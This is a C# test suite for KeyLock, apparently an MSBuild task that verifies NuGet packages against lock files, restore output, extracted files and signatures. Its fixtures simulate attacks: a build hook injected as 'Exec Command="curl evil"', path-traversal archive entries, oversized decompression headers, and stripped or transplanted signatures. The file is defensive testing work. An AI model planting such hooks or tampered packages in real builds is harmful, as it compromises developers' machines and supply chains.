using System.IO.Compression;
using System.Text;
using KeyLock.Tasks.Packages;
using KeyLock.Tasks.Tests.Infrastructure;
using KeyLock.TestSupport;
using Microsoft.Build.Framework;
using Microsoft.Build.Utilities;

namespace KeyLock.Tasks.Tests;

/// <summary>KL5007 (lock file vs restore), KL5008/KL5009 (extracted files), KL6xxx (signatures), severities (KL9003).</summary>
public sealed class SupplyChainChecksTests : IDisposable
{
    private const string NuGetOrg = "https://api.nuget.org/v3/index.json";
    private const string Newtonsoft = "Newtonsoft.Json";
    private const string NewtonsoftVersion = "13.0.3";
    private const string NewtonsoftDll = "lib/net6.0/Newtonsoft.Json.dll";

    private readonly Workspace _ws = new();
    private readonly FakeBuildEngine _engine = new();

    public void Dispose() => _ws.Dispose();

    private string AssetsPath => Path.Combine(_ws.ProjectDirectory, "obj", "project.assets.json");

    [Fact]
    public void Clean_packages_pass_every_check_and_the_summary_names_them()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        var beta = AddExtracted("Beta", "2.0.0");
        new LockFileText().Target("net10.0", alpha, beta).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0"), Pkg("Beta", "2.0.0")).WriteTo(AssetsPath);

        var task = CreateTask();

        Assert.True(task.Execute(), string.Join("\n", _engine.Errors.Select(e => e.Message)));
        Assert.Equal(2, task.VerifiedPackageCount);
        Assert.Contains(_engine.Messages, m => m.Message ==
            "KeyLock: verified 2 packages against packages.lock.json (lock file against restore, content hash, extracted files, signatures)");
    }

    [Fact]
    public void Extracted_dll_with_same_size_but_other_bytes_is_KL5008_with_the_offset()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        var lockFile = new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);
        var dll = ExtractedPath("Alpha", "1.0.0", "lib/net10.0/Alpha.dll");
        var bytes = File.ReadAllBytes(dll);
        bytes[2] ^= 0x20;
        File.WriteAllBytes(dll, bytes);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5008", error.Code);
        Assert.Equal(LockFileText.LineOf(lockFile, "Alpha"), error.LineNumber);
        Assert.Contains("Alpha 1.0.0", error.Message);
        Assert.Contains(dll, error.Message);
        Assert.Contains("differs at byte 2", error.Message);
    }

    [Fact]
    public void Extracted_targets_file_with_an_added_Exec_is_KL5008()
    {
        var entry = AddPackageWithFiles("Hooks", "1.0.0", ("build/Hooks.targets", "<Project />"));
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, ("Hooks", "1.0.0", new[] { "build/Hooks.targets" })).WriteTo(AssetsPath);
        File.WriteAllText(ExtractedPath("Hooks", "1.0.0", "build/Hooks.targets"), "<Project><Target Name=\"X\"><Exec Command=\"curl evil\" /></Target></Project>");

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5008", error.Code);
        Assert.Contains("bytes on disk", error.Message);
        Assert.Contains("Hooks.targets", error.Message);
    }

    [Fact]
    public void Deleted_extracted_file_is_KL5008()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);
        File.Delete(ExtractedPath("Alpha", "1.0.0", "lib/net10.0/Alpha.dll"));

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5008", error.Code);
        Assert.Contains("does not exist", error.Message);
    }

    [Fact]
    public void File_the_build_uses_that_the_archive_lacks_is_KL5008()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, ("Alpha", "1.0.0", new[] { "lib/net10.0/Alpha.dll", "lib/net10.0/Planted.dll" })).WriteTo(AssetsPath);
        File.WriteAllText(ExtractedPath("Alpha", "1.0.0", "lib/net10.0/Planted.dll"), "planted");

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5008", error.Code);
        Assert.Contains("lib/net10.0/Planted.dll", error.Message);
        Assert.Contains("no such entry", error.Message);
    }

    [Fact]
    public void Extracted_file_that_is_a_symlink_is_KL5008_even_when_it_points_at_identical_bytes()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);
        var dll = ExtractedPath("Alpha", "1.0.0", "lib/net10.0/Alpha.dll");
        var elsewhere = Path.Combine(_ws.Root, "elsewhere.dll");
        File.Move(dll, elsewhere);
        File.CreateSymbolicLink(dll, elsewhere);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5008", error.Code);
        Assert.Contains("symbolic link", error.Message);
    }

    [Fact]
    public void Symlinked_folder_inside_the_package_is_KL5008()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);
        var lib = Path.Combine(TestPackage.VersionFolder(_ws.GlobalPackages, "Alpha", "1.0.0"), "lib");
        var elsewhere = Path.Combine(_ws.Root, "lib-elsewhere");
        Directory.Move(lib, elsewhere);
        Directory.CreateSymbolicLink(lib, elsewhere);

        Assert.False(CreateTask().Execute());

        Assert.Equal("KL5008", Assert.Single(_engine.Errors).Code);
    }

    [Theory]
    [InlineData("../../escape.targets", "'..' segment")]
    [InlineData("/etc/escape.targets", "absolute path")]
    public void Archive_entry_leaving_the_package_folder_is_KL5009_even_when_the_lock_hash_matches(string entryName, string reason)
    {
        var entry = AddPackageWithFiles("Evil", "1.0.0", ("lib/net10.0/Evil.dll", "code"), (entryName, "<Project />"));
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, ("Evil", "1.0.0", new[] { "lib/net10.0/Evil.dll" })).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5009", error.Code);
        Assert.Contains("Evil 1.0.0", error.Message);
        Assert.Contains(reason, error.Message);
    }

    [Fact]
    public void Duplicate_archive_entry_is_KL5009()
    {
        var entry = AddPackageWithFiles("Twice", "1.0.0", ("lib/net10.0/Twice.dll", "one"), ("lib/net10.0/TWICE.dll", "two"));
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, ("Twice", "1.0.0", new[] { "lib/net10.0/Twice.dll" })).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        Assert.Equal("KL5009", Assert.Single(_engine.Errors).Code);
    }

    [Fact]
    public void Asset_path_leaving_the_package_folder_is_KL5009()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, ("Alpha", "1.0.0", new[] { "lib/net10.0/Alpha.dll", "../../../outside.dll" })).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5009", error.Code);
        Assert.Contains("../../../outside.dll", error.Message);
    }

    [Fact]
    public void Huge_declared_size_is_decided_from_the_header_without_inflating()
    {
        // A 16-byte file on disk against an entry whose header claims 4 GB - 1: a mismatch found before reading a byte.
        var entry = AddPackageWithFiles("Bomb", "1.0.0", ("lib/net10.0/Bomb.dll", new string('\0', 16)));
        var nupkg = TestPackage.NupkgPath(_ws.GlobalPackages, "Bomb", "1.0.0");
        NupkgSurgery.PatchUncompressedSize(nupkg, "lib/net10.0/Bomb.dll", uint.MaxValue - 1);
        entry = entry with { ContentHash = ContentHashes.Sha512Base64(nupkg) };
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, ("Bomb", "1.0.0", new[] { "lib/net10.0/Bomb.dll" })).WriteTo(AssetsPath);

        var started = DateTime.UtcNow;
        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5008", error.Code);
        Assert.Contains("4294967294 bytes in the archive", error.Message);
        Assert.True(DateTime.UtcNow - started < TimeSpan.FromSeconds(10));
    }

    [Fact]
    public void Entry_that_inflates_past_its_declared_size_is_bounded_by_its_header_and_never_hangs()
    {
        // 4 MB of zeros that the header says are 16 bytes; the extracted file holds the 16 bytes the header promises.
        var entry = AddPackageWithFiles("Bomb", "1.0.0", ("lib/net10.0/Bomb.dll", new string('\0', 4 * 1024 * 1024)));
        var nupkg = TestPackage.NupkgPath(_ws.GlobalPackages, "Bomb", "1.0.0");
        NupkgSurgery.PatchUncompressedSize(nupkg, "lib/net10.0/Bomb.dll", 16);
        File.WriteAllBytes(ExtractedPath("Bomb", "1.0.0", "lib/net10.0/Bomb.dll"), new byte[16]);
        entry = entry with { ContentHash = ContentHashes.Sha512Base64(nupkg) };
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, ("Bomb", "1.0.0", new[] { "lib/net10.0/Bomb.dll" })).WriteTo(AssetsPath);

        var started = DateTime.UtcNow;
        CreateTask().Execute();

        // The zip reader stops at the declared 16 bytes, exactly what NuGet's extractor writes, so the file on disk is
        // the archive's file (a correct pass); an inflater that reads on is caught as KL5009 / KL5005.
        Assert.True(DateTime.UtcNow - started < TimeSpan.FromSeconds(10));
        Assert.All(_engine.Errors, e => Assert.Contains(e.Code, new[] { "KL5009", "KL5005" }));
        Assert.DoesNotContain(_engine.Errors, e => e.Code == "KL9001");
    }

    [Fact]
    public void Lock_file_pinning_another_version_than_restore_resolved_is_KL5007_at_the_entry()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        AddExtracted("Alpha", "1.1.0");
        var lockFile = new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.1.0")).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5007", error.Code);
        Assert.Equal(LockFileText.LineOf(lockFile, "Alpha"), error.LineNumber);
        Assert.Contains("pins Alpha 1.0.0", error.Message);
        Assert.Contains("resolved Alpha 1.1.0", error.Message);
        Assert.Contains("--force-evaluate", error.Message);
    }

    [Fact]
    public void Packages_missing_from_either_side_and_missing_sections_are_each_KL5007()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        var stale = AddExtracted("Stale", "1.0.0");
        AddExtracted("Sneaky", "1.0.0");
        new LockFileText().Target("net10.0", alpha, stale).Target("net8.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText()
            .Target("net10.0", null, Pkg("Alpha", "1.0.0"), Pkg("Sneaky", "1.0.0"))
            .Target("net10.0", "linux-x64", Pkg("Alpha", "1.0.0"))
            .WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        var messages = _engine.Errors.Select(e => e.Code + " " + e.Message).ToList();
        Assert.All(_engine.Errors, e => Assert.Equal("KL5007", e.Code));
        Assert.Contains(messages, m => m.Contains("resolved Sneaky 1.0.0") && m.Contains("does not pin it"));
        Assert.Contains(messages, m => m.Contains("pins Stale 1.0.0") && m.Contains("did not resolve"));
        Assert.Contains(messages, m => m.Contains("no section for 'net10.0/linux-x64'"));
        Assert.Contains(messages, m => m.Contains("section for 'net8.0'"));
        Assert.Equal(4, _engine.Errors.Count);
    }

    [Fact]
    public void Multi_targeting_and_RID_sections_that_match_restore_pass()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        var beta = AddExtracted("Beta", "2.0.0", type: "CentralTransitive");
        var native = AddExtracted("Native", "3.0.0", type: "Transitive");
        new LockFileText()
            .Target("net8.0", alpha)
            .Target("net10.0", alpha, beta)
            .Target("net10.0/linux-x64", alpha, beta, native)
            .WriteTo(_ws.DefaultLockFile);
        new AssetsFileText()
            .Target("net8.0", null, Pkg("Alpha", "1.0.0"))
            .Target("net10.0", null, Pkg("Alpha", "1.0.0"), Pkg("Beta", "2.0.0"))
            .Target("net10.0", "linux-x64", Pkg("Alpha", "1.0.0"), Pkg("Beta", "2.0.0"), Pkg("Native", "3.0.0"))
            .WriteTo(AssetsPath);

        var task = CreateTask();

        Assert.True(task.Execute(), string.Join("\n", _engine.Errors.Select(e => e.Message)));
        Assert.Equal(3, task.VerifiedPackageCount);
    }

    [Fact]
    public void Missing_assets_file_is_KL5007()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5007", error.Code);
        Assert.Contains("project.assets.json", error.Message);
    }

    [Fact]
    public void Same_id_twice_in_one_target_is_KL5002()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        var text = new LockFileText().Target("net10.0", alpha, alpha).Render();
        File.WriteAllText(_ws.DefaultLockFile, text);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5002", error.Code);
        Assert.Contains("more than once under target 'net10.0'", error.Message);
        Assert.True(error.LineNumber > LockFileText.LineOf(_ws.DefaultLockFile, "Alpha"));
    }

    [Fact]
    public void Unknown_dependency_type_is_KL5002()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha with { Type = "Sideloaded" }).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        Assert.Contains(_engine.Errors, e => e.Code == "KL5002" && e.Message!.Contains("Sideloaded"));
    }

    [Fact]
    public void A_check_lowered_to_warning_reports_a_warning_and_the_build_passes()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);
        File.AppendAllText(ExtractedPath("Alpha", "1.0.0", "lib/net10.0/Alpha.dll"), "more");
        var task = CreateTask();
        task.ExtractedFilesSeverity = "Warning";

        Assert.True(task.Execute());

        Assert.Empty(_engine.Errors);
        Assert.Equal("KL5008", Assert.Single(_engine.Warnings).Code);
        Assert.Contains(_engine.Messages, m => m.Message!.StartsWith("KeyLock: verified 0 packages", StringComparison.Ordinal)
            && m.Message.EndsWith("1 finding(s) reported as warnings", StringComparison.Ordinal));
    }

    [Fact]
    public void Lowering_one_check_keeps_the_others_errors()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);
        TestPackage.WriteArchive(TestPackage.NupkgPath(_ws.GlobalPackages, "Alpha", "1.0.0"), "Alpha", "1.0.0", "evil");
        var task = CreateTask();
        task.SignatureSeverity = "warning";
        task.LockFileSeverity = "warning";

        Assert.False(task.Execute());

        Assert.Equal("KL5003", Assert.Single(_engine.Errors).Code);
    }

    [Fact]
    public void Unknown_severity_value_is_KL9003()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);
        var task = CreateTask();
        task.SignatureSeverity = "warn";

        Assert.False(task.Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL9003", error.Code);
        Assert.Contains("KeyLockSignatureSeverity", error.Message);
    }

    [Fact]
    public void Real_nuget_org_signed_package_passes_the_signature_policy()
    {
        var entry = AddRealNewtonsoft(source: NuGetOrg);
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, (Newtonsoft, NewtonsoftVersion, new[] { NewtonsoftDll })).WriteTo(AssetsPath);

        var task = CreateTask();

        Assert.True(task.Execute(), string.Join("\n", _engine.Errors.Select(e => e.Message)));
        Assert.Equal(1, task.VerifiedPackageCount);
        Assert.Empty(_engine.Warnings);
    }

    [Fact]
    public void Stripped_signature_keeps_the_content_hash_but_is_KL6001_for_a_nuget_org_package()
    {
        var entry = AddRealNewtonsoft(source: NuGetOrg);
        var nupkg = TestPackage.NupkgPath(_ws.GlobalPackages, Newtonsoft, NewtonsoftVersion);
        var stripped = nupkg + ".stripped";
        NupkgSurgery.StripSignature(nupkg, stripped);
        File.Move(stripped, nupkg, overwrite: true);
        Assert.Equal(entry.ContentHash, ContentHashes.Sha512Base64(nupkg));
        var lockFile = new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, (Newtonsoft, NewtonsoftVersion, new[] { NewtonsoftDll })).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL6001", error.Code);
        Assert.Equal(LockFileText.LineOf(lockFile, Newtonsoft), error.LineNumber);
        Assert.Contains("Newtonsoft.Json 13.0.3 was restored from nuget.org", error.Message);
        Assert.Contains("no signature at all", error.Message);
    }

    [Fact]
    public void Unsigned_package_from_another_source_passes_in_accept_mode()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        PackageFiles.WriteMetadata(TestPackage.NupkgPath(_ws.GlobalPackages, "Alpha", "1.0.0"), "https://pkgs.example.com/v3/index.json");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);

        Assert.True(CreateTask().Execute());
    }

    [Theory]
    [InlineData("https://pkgs.example.com/v3/index.json")]
    [InlineData(null)]
    [InlineData("(deleted)")]
    public void Stripped_signature_with_the_metadata_rewritten_is_still_KL6001_when_the_project_restores_from_nuget_org(string? claimedSource)
    {
        // Whoever strips the signature can also make .nupkg.metadata name another source, none, or delete it: only a source
        // this restore uses is believed.
        var entry = AddRealNewtonsoft(source: claimedSource);
        var nupkg = TestPackage.NupkgPath(_ws.GlobalPackages, Newtonsoft, NewtonsoftVersion);
        if (claimedSource == "(deleted)")
        {
            File.Delete(Path.Combine(Path.GetDirectoryName(nupkg)!, ".nupkg.metadata"));
            claimedSource = null;
        }

        NupkgSurgery.StripSignature(nupkg, nupkg + ".s");
        File.Move(nupkg + ".s", nupkg, overwrite: true);
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Sources(NuGetOrg).Target("net10.0", null, (Newtonsoft, NewtonsoftVersion, new[] { NewtonsoftDll })).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL6001", error.Code);
        Assert.Contains("Newtonsoft.Json 13.0.3", error.Message);
        Assert.Contains(claimedSource == null ? "is missing or names no source" : $"names the source '{claimedSource}', which this project does not restore from", error.Message);
        Assert.Contains("no signature at all", error.Message);
    }

    [Fact]
    public void Unsigned_package_from_a_source_the_project_restores_from_passes_next_to_nuget_org()
    {
        const string Feed = "https://pkgs.example.com/v3/index.json";
        var alpha = AddExtracted("Alpha", "1.0.0");
        PackageFiles.WriteMetadata(TestPackage.NupkgPath(_ws.GlobalPackages, "Alpha", "1.0.0"), Feed);
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Sources(NuGetOrg, Feed + "/").Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);

        Assert.True(CreateTask().Execute(), string.Join("\n", _engine.Errors.Select(e => e.Message)));
    }

    [Fact]
    public void Unsigned_package_naming_another_source_passes_when_the_project_does_not_restore_from_nuget_org()
    {
        // The known limit (docs/threat-model.md): without nuget.org among the sources no rule says what a package must carry.
        var alpha = AddExtracted("Alpha", "1.0.0");
        PackageFiles.WriteMetadata(TestPackage.NupkgPath(_ws.GlobalPackages, "Alpha", "1.0.0"), "https://elsewhere.example.com/v3/index.json");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Sources("https://pkgs.example.com/v3/index.json").Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);

        Assert.True(CreateTask().Execute(), string.Join("\n", _engine.Errors.Select(e => e.Message)));
    }

    [Fact]
    public void Signed_package_naming_another_source_passes_with_nuget_orgs_signature()
    {
        var entry = AddRealNewtonsoft(source: "https://pkgs.example.com/v3/index.json");
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Sources(NuGetOrg).Target("net10.0", null, (Newtonsoft, NewtonsoftVersion, new[] { NewtonsoftDll })).WriteTo(AssetsPath);

        Assert.True(CreateTask().Execute(), string.Join("\n", _engine.Errors.Select(e => e.Message)));
    }

    [Fact]
    public void Another_packages_signature_keeps_the_content_hash_but_is_KL6002()
    {
        var entry = AddRealNewtonsoft(source: NuGetOrg);
        var nupkg = TestPackage.NupkgPath(_ws.GlobalPackages, Newtonsoft, NewtonsoftVersion);
        NupkgSurgery.TransplantSignature(nupkg, PackageFiles.RealSignedPackage("xunit.assert", "2.9.3"));
        Assert.Equal(entry.ContentHash, ContentHasher.Compute(nupkg, CancellationToken.None));
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, (Newtonsoft, NewtonsoftVersion, new[] { NewtonsoftDll })).WriteTo(AssetsPath);

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL6002", error.Code);
        Assert.Contains("Newtonsoft.Json 13.0.3", error.Message);
    }

    [Fact]
    public void Require_mode_with_trusted_signers_that_do_not_match_is_KL6003()
    {
        var entry = AddRealNewtonsoft(source: NuGetOrg);
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, (Newtonsoft, NewtonsoftVersion, new[] { NewtonsoftDll })).WriteTo(AssetsPath);
        WriteNuGetConfig(requireMode: true, authorFingerprint: new string('A', 64));

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL6003", error.Code);
        Assert.Contains("NU3034", error.Message);
    }

    [Fact]
    public void Require_mode_rejects_an_unsigned_package_from_any_source_with_KL6001()
    {
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, Pkg("Alpha", "1.0.0")).WriteTo(AssetsPath);
        WriteNuGetConfig(requireMode: true, authorFingerprint: new string('A', 64));

        Assert.False(CreateTask().Execute());

        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL6001", error.Code);
        Assert.Contains("require", error.Message);
    }

    [Fact]
    public void Signature_findings_can_be_lowered_to_warnings()
    {
        var entry = AddRealNewtonsoft(source: NuGetOrg);
        var nupkg = TestPackage.NupkgPath(_ws.GlobalPackages, Newtonsoft, NewtonsoftVersion);
        NupkgSurgery.StripSignature(nupkg, nupkg + ".s");
        File.Move(nupkg + ".s", nupkg, overwrite: true);
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, (Newtonsoft, NewtonsoftVersion, new[] { NewtonsoftDll })).WriteTo(AssetsPath);
        var task = CreateTask();
        task.SignatureSeverity = "warning";

        Assert.True(task.Execute());
        Assert.Equal("KL6001", Assert.Single(_engine.Warnings).Code);
    }

    [Fact]
    public void Second_project_in_the_same_build_reuses_every_verdict()
    {
        var entry = AddRealNewtonsoft(source: NuGetOrg);
        new LockFileText().Target("net10.0", entry).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, (Newtonsoft, NewtonsoftVersion, new[] { NewtonsoftDll })).WriteTo(AssetsPath);
        Assert.True(CreateTask().Execute());

        var cache = ContentHashCache.ForBuild(_engine);
        var before = File.GetLastWriteTimeUtc(ExtractedPath(Newtonsoft, NewtonsoftVersion, NewtonsoftDll));
        Assert.True(CreateTask().Execute());

        Assert.Same(cache, ContentHashCache.ForBuild(_engine));
        Assert.Equal(1, _engine.RegisterCount);
        Assert.Equal(before, File.GetLastWriteTimeUtc(ExtractedPath(Newtonsoft, NewtonsoftVersion, NewtonsoftDll)));
    }

    [Fact]
    public void An_analyzer_file_the_build_loads_outside_the_assets_is_checked_against_its_package_archive()
    {
        // As KeyLock's own r2r/<rid>/ images: in the archive, not in project.assets.json, chosen by the package's targets.
        var alpha = AddExtracted("Alpha", "1.0.0");
        new LockFileText().Target("net10.0", alpha).WriteTo(_ws.DefaultLockFile);
        new AssetsFileText().Target("net10.0", null, ("Alpha", "1.0.0", Array.Empty<string>())).WriteTo(AssetsPath);
        var loaded = ExtractedPath("Alpha", "1.0.0", "lib/net10.0/Alpha.dll");
        TestPackage.FlipByteKeepingStamp(loaded);
        Assert.True(CreateTask().Execute(), "a file the build does not load is not checked");

        var task = CreateTask();
        task.AnalyzerFiles = new ITaskItem[]
        {
            new TaskItem(loaded),
            new TaskItem(Path.Combine(_ws.Root, "elsewhere", "Other.dll")),
            new TaskItem(Path.Combine(_ws.GlobalPackages, "notrestored", "1.0.0", "Other.dll")),
        };

        Assert.False(task.Execute());
        var error = Assert.Single(_engine.Errors);
        Assert.Equal("KL5008", error.Code);
        Assert.Contains("Alpha 1.0.0", error.Message);
        Assert.Contains(loaded, error.Message);
    }

    private VerifyLockedPackages CreateTask()
    {
        var task = _ws.CreateTask(_engine);
        task.ProjectAssetsFile = AssetsPath;
        return task;
    }

    private static (string Id, string Version, string[] Files) Pkg(string id, string version) =>
        (id, version, new[] { $"lib/net10.0/{id}.dll" });

    private LockEntry AddExtracted(string id, string version, string type = "Direct")
    {
        var entry = _ws.AddPackage(id, version, type);
        PackageFiles.Extract(TestPackage.NupkgPath(_ws.GlobalPackages, id, version));
        return entry;
    }

    private LockEntry AddPackageWithFiles(string id, string version, params (string Name, string Content)[] files)
    {
        var nupkg = TestPackage.Create(_ws.GlobalPackages, id, version);
        using (var zip = new ZipArchive(new FileStream(nupkg, FileMode.Create), ZipArchiveMode.Create))
        {
            zip.CreateEntry(id + ".nuspec").Open().Dispose();
            foreach (var (name, content) in files)
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(Encoding.UTF8.GetBytes(content));
            }
        }

        // Extract the safe entries only, as NuGet would.
        var folder = Path.GetDirectoryName(nupkg)!;
        foreach (var (name, content) in files.Where(f => !f.Name.Contains("..") && !f.Name.StartsWith('/')))
        {
            var target = Path.Combine(folder, name);
            Directory.CreateDirectory(Path.GetDirectoryName(target)!);
            if (!File.Exists(target))
            {
                File.WriteAllText(target, content);
            }
        }

        return new LockEntry(id, version, ContentHashes.Sha512Base64(nupkg));
    }

    private LockEntry AddRealNewtonsoft(string? source)
    {
        var nupkg = TestPackage.NupkgPath(_ws.GlobalPackages, Newtonsoft, NewtonsoftVersion);
        Directory.CreateDirectory(Path.GetDirectoryName(nupkg)!);
        File.Copy(PackageFiles.RealSignedPackage(Newtonsoft, NewtonsoftVersion), nupkg);
        PackageFiles.Extract(nupkg);
        PackageFiles.WriteMetadata(nupkg, source);
        return new LockEntry(Newtonsoft, NewtonsoftVersion, ContentHasher.Compute(nupkg, CancellationToken.None));
    }

    private string ExtractedPath(string id, string version, string relative) =>
        Path.Combine(TestPackage.VersionFolder(_ws.GlobalPackages, id, version), relative.Replace('/', Path.DirectorySeparatorChar));

    private void WriteNuGetConfig(bool requireMode, string authorFingerprint) =>
        File.WriteAllText(
            Path.Combine(_ws.ProjectDirectory, "nuget.config"),
            NuGetConfigText.SignaturePolicy(requireMode, NuGetConfigText.Author("SomeoneElse", authorFingerprint)));
}
